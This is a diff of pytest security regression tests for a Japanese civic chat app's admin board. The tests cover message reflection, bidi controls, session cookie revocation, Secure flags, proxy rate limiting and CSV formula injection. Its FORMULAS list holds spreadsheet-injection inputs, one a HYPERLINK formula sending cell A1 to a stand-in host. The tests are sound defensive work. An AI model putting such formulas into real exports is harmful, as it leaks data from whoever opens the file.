@@ -142,3 +142,98 @@ def test_report_command_prints_the_same_figures(admin_app, admin, tmp_path, monk
     lines = capsys.readouterr().out.splitlines()
     assert lines[0] == "section,key,count,detail" and "total,turns,2," in lines
     assert cli_main(["report", "--since", "yesterday"]) == 2
+
+
+@pytest.mark.parametrize("param", ["error", "notice"])
+def test_the_board_shows_only_its_own_messages(admin, param):
+    """Issue 7: /admin?error= printed any text to staff."""
+    html = admin.get("/admin", headers=BEARER, query_string={param: "至急 090-0000-0000 へ電話を"}).get_data(as_text=True)
+    assert "090-0000-0000" not in html and "至急" not in html
+
+
+def test_the_board_shows_the_message_its_own_redirect_carries(admin):
+    r = admin.post("/admin/vocabulary", headers=BEARER, data={"word": "ぴよぴよ", "tag": "no-such-tag"})
+    page = admin.get(r.headers["Location"], headers=BEARER).get_data(as_text=True)
+    assert 'class="error" role="alert"' in page and "no-such-tag" in page
+    r = admin.post("/admin/vocabulary", headers=BEARER, data={"word": "ぴよぴよ", "tag": "創業"})
+    assert "「ぴよぴよ」を「創業」に追加しました。" in admin.get(r.headers["Location"], headers=BEARER).get_data(as_text=True)
+
+
+def test_the_board_strips_bidi_controls_from_what_citizens_wrote(admin):
+    [reply] = talk(admin, "ぴよ\u202eぴよ")
+    admin.post("/api/feedback", json={"turn_id": reply["turn_id"], "helpful": False, "comment": "窓口\u2067が違う"})
+    html = admin.get("/admin", headers=BEARER).get_data(as_text=True)
+    assert "\u202e" not in html and "\u2067" not in html and "窓口が違う" in html
+
+
+def session_cookie(response) -> str:
+    return re.search(r"shien_navi_admin=([^;]+)", response.headers["Set-Cookie"]).group(1)
+
+
+def test_the_session_cookie_is_a_random_id_not_derived_from_the_token(admin_app):
+    """Issue 5: the cookie carried an unsalted SHA-256 of the token, which can be guessed offline."""
+    import hashlib
+    ids = {session_cookie(admin_app.test_client().post("/admin/login", data={"token": TOKEN})) for _ in range(3)}
+    assert len(ids) == 3 and all(len(i) >= 40 for i in ids)
+    assert not any(hashlib.sha256(TOKEN.encode()).hexdigest() in i or TOKEN in i for i in ids)
+
+
+def test_logout_revokes_the_session_even_for_a_copied_cookie(admin_app, admin):
+    """Issue 5: logout did not revoke the cookie (still valid for 8 h)."""
+    cookie = session_cookie(admin.post("/admin/login", data={"token": TOKEN}))
+    csrf = re.search(r'name="csrf" value="([^"]+)"', admin.get("/admin").get_data(as_text=True)).group(1)
+    thief = admin_app.test_client()
+    thief.set_cookie("shien_navi_admin", cookie, path="/admin")
+    assert thief.get("/admin?format=json").status_code == 200
+    assert admin.post("/admin/logout", data={"csrf": csrf}).status_code == 303
+    assert thief.get("/admin?format=json").status_code == 401
+    assert admin.get("/admin?format=json").status_code == 401
+
+
+def test_a_new_token_logs_everyone_out(tmp_path, data_copy):
+    config = {"TESTING": True, "DATA_HOME": str(tmp_path / "home"), "DATA_DIR": str(data_copy), "RATE_LIMIT": "off"}
+    first = create_app({**config, "ADMIN_TOKEN": TOKEN}).test_client()
+    cookie = session_cookie(first.post("/admin/login", data={"token": TOKEN}))
+    second = create_app({**config, "ADMIN_TOKEN": TOKEN + " changed"}).test_client()
+    second.set_cookie("shien_navi_admin", cookie, path="/admin")
+    assert second.get("/admin?format=json").status_code == 401
+
+
+@pytest.mark.parametrize("proxies, base_url, headers, secure", [
+    (0, "http://localhost", {}, False),
+    (0, "https://localhost", {}, True),
+    (0, "http://localhost", {"X-Forwarded-Proto": "https"}, False),  # no proxy trusted: the header is ignored
+    (1, "http://localhost", {"X-Forwarded-Proto": "https"}, True),
+    (1, "http://localhost", {"X-Forwarded-Proto": "http"}, False),
+])
+def test_the_cookie_is_secure_over_https_and_behind_a_trusted_proxy(tmp_path, data_copy, proxies, base_url,
+                                                                     headers, secure):
+    """Issue 5: no Secure flag."""
+    app = create_app({"TESTING": True, "DATA_HOME": str(tmp_path / "home"), "DATA_DIR": str(data_copy),
+                      "ADMIN_TOKEN": TOKEN, "RATE_LIMIT": "off", "PROXIES": proxies})
+    r = app.test_client().post("/admin/login", data={"token": TOKEN}, base_url=base_url, headers=headers)
+    assert r.status_code == 303 and ("; Secure" in r.headers["Set-Cookie"]) is secure
+
+
+def test_a_trusted_proxy_gives_the_rate_limit_the_client_address(tmp_path):
+    app = create_app({"TESTING": True, "DATA_HOME": str(tmp_path), "RATE_LIMIT": "1/minute", "PROXIES": 1})
+    client = app.test_client()
+    assert client.get("/programs", headers={"X-Forwarded-For": "192.0.2.1"}).status_code == 200
+    assert client.get("/programs", headers={"X-Forwarded-For": "192.0.2.2"}).status_code == 200
+    assert client.get("/programs", headers={"X-Forwarded-For": "192.0.2.1"}).status_code == 429
+
+
+FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"詳細\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "＝1+1", " =1"]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_csv_cells_cannot_start_a_formula(admin, text):
+    """Issue 4: chat text reached /admin?format=csv as =HYPERLINK(…)."""
+    import csv
+    import io
+    [reply] = talk(admin, text)
+    admin.post("/api/feedback", json={"turn_id": reply["turn_id"], "helpful": False, "comment": text})
+    rows = list(csv.reader(io.StringIO(admin.get("/admin?format=csv", headers=BEARER).get_data(as_text=True))))
+    cells = [cell for row in rows for cell in row]
+    assert any(text.strip() in cell for cell in cells)
+    assert not [cell for cell in cells if cell.lstrip(" \u3000").startswith(("=", "+", "-", "@", "\t", "＝", "＋", "－", "＠"))]
